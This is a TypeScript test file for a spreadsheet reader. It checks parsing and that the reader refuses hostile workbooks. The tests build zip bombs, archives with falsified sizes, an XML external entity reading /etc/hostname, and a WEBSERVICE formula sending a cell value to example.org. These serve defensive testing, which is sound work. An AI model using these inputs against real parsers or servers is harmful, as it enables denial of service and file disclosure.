import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { readXlsx, type XlsxLimits, type XlsxRefusal, XlsxRefused, xlsxLimits } from './xlsx.ts'
import { archive, compoundFile, legacyWorkbook, textRow, workbookOf, workbookParts } from './samples.ts'

async function refusal(input: Uint8Array | string, limits?: Partial<XlsxLimits>): Promise<XlsxRefusal> {
  const error = await readXlsx(input, limits).then(
    () => undefined,
    (error: unknown) => error,
  )
  if (!(error instanceof XlsxRefused)) throw new Error(`Expected a refusal, got ${error}`)
  return error.reason
}

/** Highest resident memory while `work` runs, above what it was before, in MB; and how long it took, in ms. */
async function cost(work: () => Promise<unknown>): Promise<{ megabytes: number; milliseconds: number }> {
  const before = process.memoryUsage().rss
  const start = performance.now()
  let peak = before
  const timer = setInterval(() => {
    peak = Math.max(peak, process.memoryUsage().rss)
  }, 5)
  await work()
  clearInterval(timer)
  return { megabytes: (peak - before) / 1e6, milliseconds: performance.now() - start }
}

/** Overwrites the size that a zip declares for one file, in its directory and before its data. */
function lie(zip: Buffer, name: string, size: number): Buffer {
  const copy = Buffer.from(zip)
  for (let at = copy.indexOf(name); at !== -1; at = copy.indexOf(name, at + 1)) {
    if (copy.readUInt32LE(at - 30) === 0x04034b50) copy.writeUInt32LE(size, at - 30 + 22)
    if (copy.readUInt32LE(at - 46) === 0x02014b50) copy.writeUInt32LE(size, at - 46 + 24)
  }
  return copy
}

const sheet = 'xl/worksheets/sheet1.xml'

describe('reading a workbook', () => {
  it('gives the header and the rows below, text in any language', async () => {
    const shared = '<si><t>编码</t></si><si><r><t>Oku</t></r><r><t>mé 木材</t></r></si>'
    const rows = '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t> Volume </t></is></c></row>'
    const table = await readXlsx(
      workbookOf(`${rows}<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2"><v>2.5</v></c></row>`, shared),
    )
    expect(table).toEqual({ header: ['编码', 'Volume'], rows: [['Okumé 木材', 2.5]] })
  })

  it('keeps empty rows in their place, so that row numbers in a report are right; drops those at the end', async () => {
    const table = await readXlsx(
      workbookOf(`${textRow(1, 'a', 'b')}${textRow(4, 'x')}<row r="9"><c r="A9" s="1"/></row>${textRow(10, ' ')}`),
    )
    expect(table.rows).toEqual([
      [null, null],
      [null, null],
      ['x', null],
    ])
  })

  it('takes what is stored with a formula and evaluates nothing (A68)', async () => {
    const cells =
      '<c r="A2"><f>1+1</f><v>41</v></c><c r="B2" t="str"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>kept</v></c><c r="C2"><f>2*3</f></c><c r="D2" t="b"><f>TRUE()</f><v>1</v></c><c r="E2" t="e"><f>1/0</f><v>#DIV/0!</v></c>'
    const table = await readXlsx(workbookOf(`${textRow(1, 'a', 'b', 'c', 'd', 'e')}<row r="2">${cells}</row>`))
    expect(table.rows).toEqual([[41, 'kept', null, 'TRUE', '#DIV/0!']])
  })

  it('gives a number with what only its format shows: percent, a unit, zeros', async () => {
    const parts = workbookParts(
      `${textRow(1, 'A', 'B', 'C', 'D', 'E', 'F')}<row r="2"><c r="A2" s="1"><v>0.12</v></c><c r="B2" s="2"><v>24.5</v></c><c r="C2" s="3"><v>12</v></c><c r="D2" s="4"><v>46277</v></c><c r="E2" s="0"><v>0.12</v></c><c r="F2" s="5"><v>0.07</v></c></row>`,
    )
    const codes = ['0.00\\ "m³";[Red]-0.00\\ "m³"', '00000', 'yyyy"年"m"月"d"日"', '0.0%']
    parts['xl/styles.xml'] =
      `<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><numFmts>${codes
        .map((code, n) => `<numFmt numFmtId="${164 + n}" formatCode="${code.replaceAll('"', '&quot;')}"/>`)
        .join(
          '',
        )}</numFmts><cellXfs>${[0, 9, 164, 165, 166, 167].map(id => `<xf numFmtId="${id}"/>`).join('')}</cellXfs></styleSheet>`
    parts['xl/_rels/workbook.xml.rels'] = String(parts['xl/_rels/workbook.xml.rels']).replace(
      '</Relationships>',
      '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>',
    )
    const { rows } = await readXlsx(archive(parts))
    expect(rows[0]).toEqual([
      { number: 12, unit: '%' },
      { number: 24.5, unit: 'm³' },
      { number: 12, digits: 5 },
      new Date('2026-09-12T00:00:00Z'),
      0.12,
      { number: 7, unit: '%' },
    ])
  })

  it('reads from a path as from bytes', async () => {
    const folder = await mkdtemp(join(tmpdir(), 'xlsx-'))
    try {
      const path = join(folder, 'any name.csv')
      await writeFile(path, workbookOf(textRow(1, 'a')))
      expect(await readXlsx(path)).toEqual({ header: ['a'], rows: [] })
      await writeFile(path, Buffer.alloc(2_000_000))
      expect(await refusal(path)).toBe('tooLarge')
    } finally {
      await rm(folder, { recursive: true })
    }
  })

  it('serves many callers at once', async () => {
    const files = Array.from({ length: 6 }, (_, n) => readXlsx(workbookOf(textRow(1, `file ${n}`))))
    expect((await Promise.all(files)).map(table => table.header[0])).toEqual([0, 1, 2, 3, 4, 5].map(n => `file ${n}`))
  })
})

describe('the type of a workbook is decided by its content', () => {
  const old = legacyWorkbook([
    ['用户', 'Alter'],
    ['木匠', 42.5],
  ])

  it('refuses an old .xls where only xlsx is taken (VAL-20), takes it where both are (VAL-22)', async () => {
    expect(await refusal(old)).toBe('type')
    expect(await readXlsx(old, { accept: ['xlsx', 'xls'] })).toEqual({
      header: ['用户', 'Alter'],
      rows: [['木匠', 42.5]],
    })
  })

  it('refuses a csv, a text, an html table or nothing under the name of a workbook', async () => {
    for (const text of [
      'code,name\n1,2\n',
      '',
      'PK',
      '<html><table><tr><td>1</td></tr></table></html>',
      'PK\u0003\u0004 and more text than a header has',
    ]) {
      expect(await refusal(Buffer.from(text), { accept: ['xlsx', 'xls'] }), text).toMatch(/^(type|broken)$/)
    }
    expect(await refusal(Buffer.from('code,name\n1,2\n'))).toBe('type')
  })

  it('refuses macros, binary workbooks and other documents (A68)', async () => {
    const parts = workbookParts(textRow(1, 'a'))
    const types = String(parts['[Content_Types].xml'])
    const macro = types.replace(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
      'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    )
    const word = types.replace('spreadsheetml.sheet.main', 'wordprocessingml.document.main')
    expect(await refusal(archive({ ...parts, '[Content_Types].xml': macro }))).toBe('type')
    expect(await refusal(archive({ ...parts, 'xl/vbaProject.bin': 'x' }))).toBe('type')
    expect(await refusal(archive({ ...parts, '[Content_Types].xml': word }))).toBe('type')
    expect(await refusal(archive({ 'readme.txt': 'x' }))).toBe('type')
    expect(await refusal(compoundFile('WordDocument', Buffer.alloc(5000)), { accept: ['xlsx', 'xls'] })).toBe('type')
    expect(await refusal(compoundFile('EncryptedPackage', Buffer.alloc(5000)), { accept: ['xlsx', 'xls'] })).toBe(
      'type',
    )
  })
})

describe('a hostile workbook cannot hurt the server', () => {
  it('stops inflating a bomb at 20 MB, however small it is packed (A67)', async () => {
    const parts = workbookParts('')
    parts[sheet] = Buffer.concat([Buffer.from(String(parts[sheet])), Buffer.alloc(120_000_000, 0x20)])
    const bomb = archive(parts)
    expect(bomb.length).toBeLessThan(500 * 1024)
    const spent = await cost(async () => expect(await refusal(bomb)).toBe('tooLarge'))
    console.log(
      `Bomb of ${bomb.length} bytes: ${spent.milliseconds.toFixed(0)} ms, ${spent.megabytes.toFixed(0)} MB more`,
    )
    // Two seconds is the aim; the reader's own limit of ten is what a busy machine must keep.
    expect(spent.milliseconds).toBeLessThan(10_000)
    expect(spent.megabytes).toBeLessThan(100)
  })

  it('does not believe the sizes an archive declares (A67)', async () => {
    const parts = workbookParts(textRow(1, 'a'))
    const bomb = archive({ ...parts, 'xl/media/image1.png': Buffer.alloc(30_000_000) })
    expect(await refusal(lie(bomb, 'xl/media/image1.png', 100))).toBe('tooLarge')
    expect(await refusal(lie(archive(parts), sheet, 4_000_000_000))).toBe('broken')
    expect(await refusal(lie(archive(parts), sheet, 1))).toBe('broken')
  })

  it('counts all files together, and how many they are', async () => {
    const parts = workbookParts(textRow(1, 'a'))
    const three = Object.fromEntries([1, 2, 3].map(n => [`xl/part${n}.bin`, Buffer.alloc(7_000_000)]))
    expect(await refusal(archive({ ...parts, ...three }))).toBe('tooLarge')
    const many = Object.fromEntries(Array.from({ length: xlsxLimits.entries }, (_, n) => [`docProps/${n}.xml`, '<a/>']))
    expect(await refusal(archive({ ...parts, ...many }))).toBe('tooLarge')
  })

  it('does not let one stored text grow into a large answer', async () => {
    const shared = `<si><t>${'x'.repeat(30_000)}</t></si>`
    const rows = Array.from({ length: 9000 }, (_, n) => `<row r="${n + 1}"><c t="s"><v>0</v></c></row>`).join('')
    expect(await refusal(workbookOf(rows, shared))).toBe('tooLarge')
  })

  it('declares no entities (A68)', async () => {
    const parts = workbookParts(textRow(1, '&lol;'))
    parts[sheet] = `<!DOCTYPE x [<!ENTITY lol SYSTEM "file:///etc/hostname">]>${parts[sheet]}`
    expect(await refusal(archive(parts))).toBe('broken')
  })

  it('follows no link to another workbook (A68)', async () => {
    const parts = workbookParts(`${textRow(1, 'a')}<row r="2"><c r="A2"><f>[1]Sheet1!A1</f><v>7</v></c></row>`)
    parts['xl/externalLinks/externalLink1.xml'] = '<externalLink><!DOCTYPE x></externalLink>'
    expect((await readXlsx(archive(parts))).rows).toEqual([[7]])
  })

  it('ends reading that takes too long, while the server goes on', async () => {
    const slow = workbookOf(
      Array.from({ length: 60_000 }, (_, n) => `<row r="${n + 2}"><c r="XFD${n + 2}"/></row>`).join(''),
    )
    let ticks = 0
    const timer = setInterval(() => ticks++, 10)
    expect(await refusal(slow, { milliseconds: 400 })).toBe('timeout')
    clearInterval(timer)
    expect(ticks).toBeGreaterThan(10)
  })

  it('ends reading that takes too much memory', async () => {
    const strings = Array.from({ length: 200_000 }, (_, n) => `<si><t>${n}</t></si>`).join('')
    expect(await refusal(workbookOf(textRow(1, 'a'), strings), { megabytes: 24, kilobytes: 5000 })).toBe('tooLarge')
  })

  it('refuses 20,000 rows, and 65 columns (A76)', async () => {
    const rows = (count: number) =>
      workbookOf(Array.from({ length: count + 1 }, (_, n) => textRow(n + 1, `r${n}`)).join(''))
    expect(await refusal(rows(20_000))).toBe('tooManyRows')
    expect(await refusal(rows(10_001))).toBe('tooManyRows')
    expect((await readXlsx(rows(10_000))).rows).toHaveLength(10_000)
    expect(await refusal(workbookOf(`${textRow(1, 'a')}${textRow(1_048_576, 'z')}`))).toBe('tooManyRows')
    const wide = (count: number) => workbookOf(`<row r="1">${'<c><v>1</v></c>'.repeat(count)}</row>`)
    expect(await refusal(wide(65))).toBe('tooManyColumns')
    expect((await readXlsx(wide(64))).header).toHaveLength(64)
  })

  it('does not count rows that are only formatted', async () => {
    const empty = Array.from({ length: 15_000 }, (_, n) => `<row r="${n + 2}"><c r="A${n + 2}" s="0"/></row>`).join('')
    expect((await readXlsx(workbookOf(textRow(1, 'a') + empty))).rows).toEqual([])
  })

  it('refuses more than 500 KB before looking inside (VAL-21)', async () => {
    expect(await refusal(Buffer.alloc(500 * 1024 + 1))).toBe('tooLarge')
    expect(await refusal(Buffer.alloc(500 * 1024))).toBe('type')
  })

  it('refuses what is cut, scrambled or contradicts itself, whatever byte is wrong', async () => {
    const intact = workbookOf(textRow(1, 'a', 'b') + textRow(2, 'c', 'd'))
    expect(await refusal(intact.subarray(0, intact.length - 30))).toBe('broken')
    const directory = intact.readUInt32LE(intact.length - 6)
    for (const [at, value] of [
      [directory, 0], // record signature
      [directory + 8, 1], // encrypted
      [directory + 10, 99], // method
      [directory + 16, 0xee], // check sum
      [directory + 42, 0xff], // place
      [intact.length - 12, 1], // number of files
    ] as const) {
      const damaged = Buffer.from(intact)
      damaged[at] = value
      expect(await refusal(damaged), `byte ${at}`).toBe('broken')
    }
  })

  it('refuses a sheet whose rows go backwards or that is missing', async () => {
    expect(await refusal(workbookOf(textRow(1, 'a') + textRow(3, 'b') + textRow(2, 'c')))).toBe('broken')
    const parts = workbookParts('')
    delete parts[sheet]
    expect(await refusal(archive(parts))).toBe('broken')
  })

  it('reads the first sheet that people see, not one that is hidden before it', async () => {
    const parts = workbookParts(textRow(1, 'Hidden') + textRow(2, 'secret'))
    const change = (path: string, from: string, to: string) => {
      parts[path] = String(parts[path]).replace(from, to)
    }
    parts['xl/worksheets/sheet2.xml'] = String(parts[sheet]).replace('Hidden', 'Seen').replace('secret', 'told')
    change(
      'xl/_rels/workbook.xml.rels',
      '</Relationships>',
      '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet2.xml"/></Relationships>',
    )
    const first = '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
    change('xl/workbook.xml', first, `${first}<sheet name="Sheet2" sheetId="2" r:id="rId3"/>`)
    expect((await readXlsx(archive(parts))).header).toEqual(['Hidden'])
    for (const state of ['hidden', 'veryHidden']) {
      const hidden = { ...parts }
      hidden['xl/workbook.xml'] = String(parts['xl/workbook.xml']).replace(
        'sheetId="1"',
        `sheetId="1" state="${state}"`,
      )
      expect(await readXlsx(archive(hidden)), state).toEqual({ header: ['Seen'], rows: [['told']] })
    }
  })

  it('refuses cells that are merged over several rows: only the first of the rows would have the value', async () => {
    const merged = (...places: string[]) => {
      const parts = workbookParts(textRow(1, 'a', 'b') + textRow(2, 'x', 'y') + textRow(3, '', 'z'))
      const cells = places.map(place => `<mergeCell ref="${place}"/>`).join('')
      parts[sheet] = String(parts[sheet]).replace('</sheetData>', `</sheetData><mergeCells>${cells}</mergeCells>`)
      return archive(parts)
    }
    await expect(readXlsx(merged('A1:B1', 'A2:A3'))).rejects.toMatchObject({
      key: 'importMerged',
      params: { cell: 'Sheet1!A2' },
    })
    expect((await readXlsx(merged('A1:B1', 'C2:D2'))).rows).toHaveLength(2)
  })

  it('tells the caller in words of the product', async () => {
    await expect(readXlsx(Buffer.from('a,b'))).rejects.toMatchObject({ key: 'fileType', params: { types: 'xlsx' } })
    await expect(readXlsx(Buffer.alloc(600 * 1024))).rejects.toMatchObject({
      key: 'fileTooLarge',
      params: { max: '500 KB' },
    })
  })
})
